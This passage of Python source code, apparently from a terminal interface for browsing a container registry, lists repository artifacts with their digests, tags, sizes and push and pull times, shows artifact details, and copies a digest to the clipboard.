        return f"loading artifacts of {self.short_name}"

    def missing_argument(self) -> str | None:
        return None if self.project else "give PROJECT/REPOSITORY, e.g. :artifacts hello-world-dp/hello-world-image"

    def fetch(self, *, force: bool) -> AsyncIterator[Page[Artifact]]:
        return self.registry.artifacts_page(self.project, self.repository, self.page, self.page_size, force=force)

    def every_pager(self, force: bool) -> Pager[Artifact]:
        return self.registry.iter_artifacts(self.project, self.repository, ARTIFACTS_MAX_PAGE_SIZE, force=force)

    def _row(self, a: Artifact) -> dict[str, Any]:
        return {
            # the row's key: an artifact without a digest (the docs' form, or unreadable) is keyed by what identifies it, else by itself
            "digest": a.digest or (repr(a.identity) if a.identity is not None else f"‹no identity {id(a)}›"),
            "tags": ", ".join(a.tag_names) or "(untagged)",
            "size": human_size(a.size),
            "push_time": when(a.push_time),
            "pull_time": when(a.pull_time),
            "type": a.type or "",
            "artifact": a,
        }

    def _cell(self, row: dict[str, Any], key: str) -> Text:
        a: Artifact = row["artifact"]
        if key == "digest":
            return cell(short_digest(a.digest)) if a.digest else cell("(no digest)", style="dim italic")
        if key == "size":
            return cell(row["size"], right=True)
        if key == "tags":
            return cell(row["tags"], style="" if a.tags else "dim italic")
        if key == "pull_time" and a.pull_time is None:
            return cell("never", style="dim")
        return cell(row.get(key))

    def pager_notes(self, table: ResourceTable) -> list[str]:
        if self.every_mode:
            return super().pager_notes(table)
        size = sum(a.size for a in self.artifacts)
        return [f"{human_size(size)} on this page", "enter: details", *super().pager_notes(table)]

    def open_item(self, a: Artifact) -> None:
        lines = [
            ("Repository", self.repository),
            ("Digest", a.digest or "(none in the server's answer)"),
            ("Tags", ", ".join(a.tag_names) or "(untagged)"),
            ("Size", f"{human_size(a.size)} ({a.size:,} bytes)"),
            ("Type", a.type or ""),
            ("Media type", a.media_type or ""),
            ("Pushed", f"{when(a.push_time)} UTC ({relative(ms_of(a.push_time), self.ctx.now_ms())})" if a.push_time else ""),
            ("Pulled", f"{when(a.pull_time)} UTC ({relative(ms_of(a.pull_time), self.ctx.now_ms())})" if a.pull_time else "never"),
        ]
        for t in a.tags:
            lines.append((f"Tag {t.name}", f"pushed {when(t.push_time)}, pulled {when(t.pull_time) or 'never'}"))
        for key, value in (a.extra_attrs or {}).items():
            if isinstance(value, (str, int, float)):
                lines.append((str(key), str(value)))
        for key, value in (a.annotations or {}).items():
            lines.append((str(key).rsplit(".", 1)[-1], str(value)))
        body = block(lines, width=16)
        name = short_digest(a.digest) if a.digest else ", ".join(a.tag_names) or "(no digest)"
        self.app.push_screen(MessageScreen(f"Artifact {name} of {self.short_name}", body.plain))

    def action_copy_digest(self) -> None:
        a = self.selected()
        if a is not None and a.digest:
            flex_app(self).copy_text(a.digest, f"digest {short_digest(a.digest)}")
        elif a is not None:
            self.say("This artifact has no digest in the server's answer: nothing to copy")


ARTIFACT_COLUMNS = kinds.get("artifacts").columns
